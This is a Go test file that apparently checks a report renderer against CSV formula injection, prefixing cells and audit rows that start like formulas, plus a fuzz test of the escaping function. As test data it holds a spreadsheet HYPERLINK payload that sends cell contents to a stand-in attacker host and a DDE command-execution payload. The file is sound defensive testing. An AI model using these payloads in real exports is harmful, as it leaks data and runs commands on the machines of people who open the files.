package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"patchbay/backend/domain"
)

// TestSecCSVFormula (review finding 11): a cell a provider or client
// controls (identity, label, last error) that starts like a formula is
// written as text.
func TestSecCSVFormula(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?x="&A1,"click")`
	r := Report{Rows: []Row{{ID: "conn_1", Label: "+cmd|' /C calc'!A0", Identity: evil, LastError: "@SUM(1)", Provider: "-2+3"}}}
	b, _, err := Render(r, "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q starts like a formula", cell)
		}
	}
	if rows[1][5] != "'"+evil {
		t.Errorf("identity written as %q, want the text prefixed with '", rows[1][5])
	}
	// The audit block that follows (a check's detail is the provider's
	// error message) is written the same way.
	r.Audit = []domain.AuditEvent{{ConnectionID: "conn_1", ConnectionLabel: "+cmd|' /C calc'!A0", Action: "validated", Outcome: "failed", Actor: "-x", Detail: evil}}
	if b, _, err = Render(r, "csv"); err != nil {
		t.Fatal(err)
	}
	r2 := csv.NewReader(bytes.NewReader(b))
	r2.FieldsPerRecord = -1
	if rows, err = r2.ReadAll(); err != nil || len(rows) != 4 {
		t.Fatalf("rows %q, %v", rows, err)
	}
	for _, cell := range rows[3] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("audit cell %q starts like a formula", cell)
		}
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "'=x", "\"=x\""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := CSVCell(s)
		if out != "" && strings.ContainsRune("=+-@\t\r", rune(out[0])) {
			t.Fatalf("CSVCell(%q) = %q starts like a formula", s, out)
		}
		if out != s && out != "'"+s {
			t.Fatalf("CSVCell(%q) = %q changed more than a prefix", s, out)
		}
	})
}
